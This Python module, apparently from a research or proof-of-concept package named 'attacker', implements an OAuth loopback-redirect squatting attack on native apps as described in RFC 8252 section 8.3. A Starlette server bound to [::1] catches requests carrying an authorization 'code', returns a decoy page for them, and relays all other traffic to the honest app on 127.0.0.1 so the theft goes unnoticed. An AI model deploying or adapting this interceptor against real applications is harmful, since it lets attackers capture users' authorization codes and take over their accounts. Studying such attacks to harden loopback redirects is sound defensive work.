"""A process on ``[::1]`` while the honest app listens on ``127.0.0.1`` (RFC 8252 section 8.3).

A redirect to ``http://localhost`` goes to whichever address the browser tries first, and that is
``::1``. Whatever is no redirect the squatter passes on to the honest app, so nobody notices.
"""

import httpx
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from attacker.redirect_handlers.page import DECOY

_HOP_BY_HOP = frozenset({"connection", "content-encoding", "content-length", "transfer-encoding"})
_PASSED_ON = ("accept", "accept-language", "content-type", "user-agent")


def squatter_app(http: httpx.AsyncClient, honest_app: str) -> Starlette:
    """Answer redirects; relay the rest to ``honest_app``, for example ``http://127.0.0.1:5218``."""

    async def answer(request: Request) -> Response:
        if "code" in request.query_params:
            return HTMLResponse(DECOY)
        query: bytes = request.scope["query_string"]
        # The path as it was sent: an escaped character must stay escaped.
        target = request.scope["raw_path"] + (b"?" + query if query else b"")
        # Always a cookie header, if only an empty one: else the HTTP client would send what it
        # keeps from another victim.
        cookie = {"cookie": request.headers.get("cookie", "")}
        passed_on = {name: request.headers[name] for name in _PASSED_ON if name in request.headers}
        relayed = await http.request(
            request.method,
            httpx.URL(honest_app).copy_with(raw_path=target),
            headers=passed_on | cookie,
            content=await request.body(),
        )
        response = Response(relayed.content, relayed.status_code)
        response.raw_headers.extend(
            (name.lower(), value)
            for name, value in relayed.headers.raw
            if name.lower().decode() not in _HOP_BY_HOP
        )
        return response

    return Starlette(routes=[Route("/{path:path}", answer, methods=["GET", "POST"])])
